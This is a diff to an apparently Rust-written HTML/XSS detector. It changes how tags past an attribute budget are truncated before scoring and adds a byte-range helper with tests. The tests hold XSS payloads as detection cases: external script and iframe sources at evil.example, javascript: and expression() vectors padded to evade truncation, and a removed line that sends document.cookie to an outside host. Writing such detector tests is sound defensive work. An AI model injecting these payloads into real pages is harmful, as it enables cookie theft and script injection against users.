@@ -532,16 +532,21 @@ pub fn inspect(tokens: &Tokens<'_>, floor: f32) -> Option<(Hit, usize)> {
     let mut best: Option<(f32, Evidence<'_>)> = None;
     let mut strong = 0;
     let mut spent = 0usize;
+    let mut long_unquoted = Spans::default();
     for tag in &tokens.tags {
         spent += tag.attrs.iter().map(|a| a.value.len()).sum::<usize>();
-        let verdict = if spent <= super::ATTR_BUDGET {
-            judge_tag(tag)
-        } else {
-            // Past the budget only overlapping values are left (see ATTR_BUDGET): the tag is
-            // still judged, by its name, its attributes and the first bytes of each value.
-            let cut = values_cut(tag);
-            judge_tag(&cut).map(|(s, why)| (s, Evidence::Owned(why.render())))
+        let cut = (spent > super::ATTR_BUDGET)
+            .then(|| values_cut(tag, &long_unquoted))
+            .flatten();
+        let verdict = match &cut {
+            None => judge_tag(tag),
+            Some(cut) => judge_tag(cut).map(|(s, why)| (s, Evidence::Owned(why.render()))),
         };
+        for a in &tag.attrs {
+            if a.unquoted && a.value.len() > CUT_VALUE {
+                long_unquoted.add(a.value);
+            }
+        }
         if let Some((score, why)) = verdict {
             if score >= 0.5 {
                 strong += 1;
@@ -555,20 +560,30 @@ pub fn inspect(tokens: &Tokens<'_>, floor: f32) -> Option<(Hit, usize)> {
         .map(|(score, why)| (Hit::new(score, why.render()), strong))
 }
 
-/// Bytes of each attribute value (and of the body) judged in a tag past the budget: a
-/// handler, URL scheme, srcdoc or style shows what it is at its start.
+/// Bytes judged of a value, past the budget, that lies inside an earlier tag's unquoted value.
 const CUT_VALUE: usize = 128;
 
-/// `tag` with every attribute value and its body cut to [`CUT_VALUE`] bytes.
-fn values_cut<'a>(tag: &Tag<'a>) -> Tag<'a> {
-    fn cut(s: &str) -> &str {
-        let mut end = s.len().min(CUT_VALUE);
-        while !s.is_char_boundary(end) {
+/// `tag` with each attribute value that lies inside a long unquoted value of an earlier tag
+/// cut to [`CUT_VALUE`] bytes; `None` when no value is cut. Past the budget only such values
+/// are left to read again (see ATTR_BUDGET): a browser reading the text from its start sees
+/// no tag inside an unquoted value (it runs to whitespace or `>`), so what matters there is
+/// the earlier tag, judged in full. Every other value and the body are judged whole.
+fn values_cut<'a>(tag: &Tag<'a>, long_unquoted: &Spans) -> Option<Tag<'a>> {
+    let inside = |v: &str| v.len() > CUT_VALUE && long_unquoted.holds(v);
+    if !tag.attrs.iter().any(|a| inside(a.value)) {
+        return None;
+    }
+    let cut = |v: &'a str| {
+        if !inside(v) {
+            return v;
+        }
+        let mut end = CUT_VALUE;
+        while !v.is_char_boundary(end) {
             end -= 1;
         }
-        &s[..end]
-    }
-    Tag {
+        &v[..end]
+    };
+    Some(Tag {
         name: tag.name.clone(),
         end: tag.end,
         attrs: tag
@@ -577,10 +592,40 @@ fn values_cut<'a>(tag: &Tag<'a>) -> Tag<'a> {
             .map(|a| Attr {
                 name: a.name.clone(),
                 value: cut(a.value),
+                unquoted: a.unquoted,
             })
             .collect(),
         unclosed: tag.unclosed,
-        body: cut(tag.body),
+        body: tag.body,
+    })
+}
+
+/// Disjoint byte ranges of one text (by address), merged as they are added.
+#[derive(Default)]
+struct Spans(Vec<(usize, usize)>);
+
+impl Spans {
+    fn range(v: &str) -> (usize, usize) {
+        let s = v.as_ptr() as usize;
+        (s, s + v.len())
+    }
+
+    /// Whether `v` lies inside one of the ranges.
+    fn holds(&self, v: &str) -> bool {
+        let (s, e) = Self::range(v);
+        let i = self.0.partition_point(|r| r.0 <= s);
+        i > 0 && e <= self.0[i - 1].1
+    }
+
+    fn add(&mut self, v: &str) {
+        let (mut s, mut e) = Self::range(v);
+        let first = self.0.partition_point(|r| r.1 < s);
+        let after = self.0.partition_point(|r| r.0 <= e);
+        if first < after {
+            s = s.min(self.0[first].0);
+            e = e.max(self.0[after - 1].1);
+        }
+        self.0.splice(first..after, [(s, e)]);
     }
 }
 
@@ -600,10 +645,10 @@ mod tests {
     }
 
     #[test]
-    fn tags_past_the_budget_are_judged_on_the_start_of_their_values() {
-        // Each tag's unquoted value runs to the end of the text: 128 overlapping values of
-        // up to 50 KB, far past the budget, then the tag that matters.
-        let pad = format!("{}{}", "<a/title=x".repeat(6), "B".repeat(50_000));
+    fn past_the_budget_only_values_inside_earlier_unquoted_ones_are_cut() {
+        // Each padding tag's unquoted value runs to the `>`: overlapping values far past the
+        // budget, then the tag that matters, whose values are its own.
+        let pad = format!("{}{}>", "<a/title=x".repeat(16), "B".repeat(50_000));
         let toks = tokenize(&pad);
         let all: usize = toks
             .tags
@@ -613,20 +658,59 @@ mod tests {
             .sum();
         assert!(all > super::super::ATTR_BUDGET, "the case overlaps: {all}");
         assert!(score(&pad) < 0.5);
+        let spaces = " ".repeat(200);
+        let decls = "p{color:red}".repeat(20);
         for (tail, at_least) in [
-            (" <script src=//evil.example/x.js></script>", 0.9),
-            (" <iframe src=//evil.example/>", 0.5),
-            (" <img src=x onerror=fetch('//e/'+document.cookie)>", 0.9),
-            (" <a href=javascript:alert(1)>x</a>", 0.9),
-            (" <div style=\"background:url(javascript:alert(1))\">", 0.5),
-            (" <img src=x onerror=/*a long comment*/x>", 0.6),
+            ("<script src=//evil.example/x.js></script>".to_string(), 0.9),
+            ("<iframe src=//evil.example/>".to_string(), 0.5),
+            (
+                format!("<a href=\"{spaces}javascript:eval(name)\">x</a>"),
+                0.9,
+            ),
+            (
+                format!(
+                    "<a href=\"java{}script:eval(name)\">x</a>",
+                    "\t".repeat(200)
+                ),
+                0.9,
+            ),
+            (
+                format!("<style>{decls}body{{width:expression(eval(name))}}</style>"),
+                0.5,
+            ),
+            (
+                format!(
+                    "<div style=\"{}background:url(javascript:eval(name))\">",
+                    "color:red;".repeat(20)
+                ),
+                0.5,
+            ),
+            (
+                format!("<link rel=\"{spaces}import\" href=//e.example/x>"),
+                0.5,
+            ),
         ] {
             let text = format!("{pad}{tail}");
             assert!(score(&text) >= at_least, "{tail}: {}", score(&text));
         }
-        let cut = values_cut(&toks.tags[0]);
+        // The padding tags past the budget are cut: their values lie in the first one's.
+        let mut spans = Spans::default();
+        spans.add(toks.tags[0].attrs[0].value);
+        let cut = values_cut(&toks.tags[5], &spans).expect("cut");
         assert!(cut.attrs.iter().all(|a| a.value.len() <= CUT_VALUE));
-        assert_eq!(cut.name, toks.tags[0].name);
+        assert!(values_cut(&tokenize("<b title=x>").tags[0], &spans).is_none());
+    }
+
+    #[test]
+    fn spans_merge_and_hold() {
+        let text = "0123456789abcdefghij";
+        let mut s = Spans::default();
+        s.add(&text[2..5]);
+        s.add(&text[10..12]);
+        assert!(s.holds(&text[3..5]) && !s.holds(&text[4..6]) && !s.holds(&text[9..11]));
+        s.add(&text[4..11]);
+        assert_eq!(s.0.len(), 1);
+        assert!(s.holds(&text[2..12]) && !s.holds(&text[1..3]));
     }
 
     #[test]
